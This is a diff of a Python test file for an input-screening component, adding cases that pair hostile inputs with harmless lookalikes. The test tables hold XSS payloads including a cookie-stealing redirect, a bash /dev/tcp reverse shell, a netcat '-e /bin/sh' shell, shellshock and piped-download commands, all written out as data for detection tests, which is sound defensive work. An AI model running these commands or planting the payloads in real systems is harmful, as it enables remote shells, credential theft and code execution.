@@ -10,8 +10,7 @@ from pathlib import Path, PurePosixPath
 from typing import Any
 
 import pytest
-from hypothesis import given, settings
-from hypothesis import strategies as st
+from hypothesis import given, settings, strategies as st
 from pydantic import BaseModel
 
 from toolpost.calls.errors import ConfigurationError
@@ -73,7 +72,9 @@ CASES = [
     ("script.frame", "text medium!", "<iframe src=//x.test>", "<iframe> is an element"),
     ("script.style", "text medium!", "<b style='width:expression(go())'>", "<b> a regular expression (see above)"),
     ("script.call-breakout", "text medium!", "x';alert(1)//", "x's; alert the guard"),
-    ("script.obfuscated", "text medium!", "eval(atob('Z28oKQ=='))", "eval(expression)"),
+    ("script.decoded-call", "text medium!", "eval(atob('Z28oKQ=='))", "eval(expression)"),
+    ("script.puzzle", "text medium!", "[][(![]+[])[+[]]]", "a[][b] and (![x])"),
+    ("script.sent-cookie", "text medium!", "location=a+document.cookie", "document.cookie = 'theme=dark'"),
     ("script.any-call", "text high!", "prompt(5)", "prompt five people"),
     ("script.embedded", "html high", "<form action=/x>", "<p>a form</p>"),
     ("script.any-tag", "text strict", "a <b", "a b"),
@@ -91,6 +92,7 @@ CASES = [
         "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
         "bash -i setup.sh > /dev/null",
     ),
+    ("command.netcat-shell", "shell medium", "nc -nv 192.0.2.7 9 -e /bin/sh", "nc -zv example.test 22"),
     ("command.shellshock", "text medium!", "() { :;}; id", "() => {}; id"),
     ("command.evasion", "text medium!", "cat${IFS}notes", "cat ${FILE}"),
     ("command.piped-download", "shell medium", "wget -qO- x.test/i | sudo bash", "wget x.test/i -O i && less i"),
@@ -297,6 +299,7 @@ def test_ordinary_addresses_pass(url: str) -> None:
         'SELECT $$it\'s$$, "c;d", `e;f`',
         "INSERT INTO t (a, b) VALUES (1, 'x;y')",
         "DROP TABLE t",
+        "SELECT a FROM t WHERE a LIKE '%27%' AND b ~ '[\\x27]'",
     ],
 )
 def test_one_statement_passes_where_sql_is_wanted(sql: str) -> None:
@@ -409,7 +412,7 @@ def test_a_role_or_level_that_does_not_exist_is_refused_with_the_nearest() -> No
         role_of("x", declared="idenifier")
     with pytest.raises(ConfigurationError, match="the levels are low, medium, high, strict"):
         Screen("text", "extreme")  # type: ignore[arg-type]
-    with pytest.raises(ConfigurationError, match="not a role"):
+    with pytest.raises(ConfigurationError, match="role 'words' does not exist; the roles are text"):
         Screen("words", "medium")  # type: ignore[arg-type]
 
 
